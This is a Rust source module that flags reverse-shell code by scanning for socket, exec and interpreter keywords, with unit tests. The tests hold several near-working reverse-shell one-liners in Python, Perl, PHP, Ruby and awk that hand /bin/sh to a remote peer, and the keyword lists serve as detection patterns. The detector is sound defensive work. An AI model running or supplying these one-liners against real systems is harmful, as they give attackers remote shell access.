//! Code in other languages that ties a program to a network peer: told from the words it is made of.
//!
//! A scan of tokens and nothing more: one word that opens a connection and one that starts a
//! program or hands descriptors on. Strings are looked into as well, for code is often in one.

/// Words that open a connection or wait for one.
const SOCKETS: &[&str] = &[
    "socket",
    "sockaddr_in",
    "fsockopen",
    "pfsockopen",
    "socket_create",
    "stream_socket_client",
    "TCPSocket",
    "TCPServer",
    "UDPSocket",
    "create_connection",
    "INET",
    "Dial",
    "DialTimeout",
    "TCPClient",
    "TcpClient",
    "TcpListener",
    "TcpStream",
    "inet",
    "tcp",
];
/// Words that start a program given as text, or make a descriptor standard input.
const SHELLS: &[&str] = &[
    "dup2",
    "pty",
    "popen",
    "popen2",
    "popen3",
    "shell_exec",
    "passthru",
    "proc_open",
    "exec",
    "execl",
    "execve",
    "execvp",
    "spawn",
    "reopen",
    "system",
    "subprocess",
    "Popen",
    "execute",
    "Command",
    "Process",
    "ProcessBuilder",
    "getRuntime",
];
/// Programs that take commands.
const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "cmd", "powershell"];
/// Words by which what came over the connection is run, whatever it is.
const OBEYS: &[&str] = &["popen", "popen3", "shell_exec", "passthru", "system", "exec", "execute"];
/// Words that take what the peer sends.
const RECEIVES: &[&str] =
    &["recv", "receive", "gets", "socket_read", "fgets", "getline", "receive_from"];

/// Whether the code gives a network peer a shell.
pub(super) fn serves(code: &str) -> bool {
    let has = |list: &[&str]| words(code).any(|word| list.contains(&word));
    // awk speaks of its sockets as files
    let awk = code.contains("/inet/tcp/") || code.contains("/inet/udp/");
    if !awk && !has(SOCKETS) {
        return false;
    }
    (awk && has(&["getline"]))
        || (has(SHELLS) && has(INTERPRETERS))
        || (has(OBEYS) && has(RECEIVES))
}

fn words(code: &str) -> impl Iterator<Item = &str> {
    code.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::serves;

    #[test]
    fn a_connection_alone_or_a_program_alone_is_nothing() {
        let cases = [
            (
                "import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
                true,
            ),
            (
                "use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,'>&S');exec('/bin/sh -i');",
                true,
            ),
            ("$s=fsockopen('h',1);shell_exec('/bin/bash <&3 >&3');", true),
            ("c=TCPSocket.new('h','1');IO.popen(c.gets.chomp){|io|c.print io.read}", true),
            (
                "BEGIN{s=\"/inet/tcp/0/h/1\";while((s|&getline c)>0){while((c|&getline)>0)print|&s;close(c)}}",
                true,
            ),
            ("import socket;print(socket.gethostname())", false),
            ("import subprocess;subprocess.run(['sh','x.sh'])", false),
            ("const net=require('net');net.createServer().listen(1)", false),
            ("import socket,subprocess;subprocess.run(['make']);socket.socket()", false),
        ];
        for (code, expected) in cases {
            assert_eq!(serves(code), expected, "{code}");
        }
    }
}
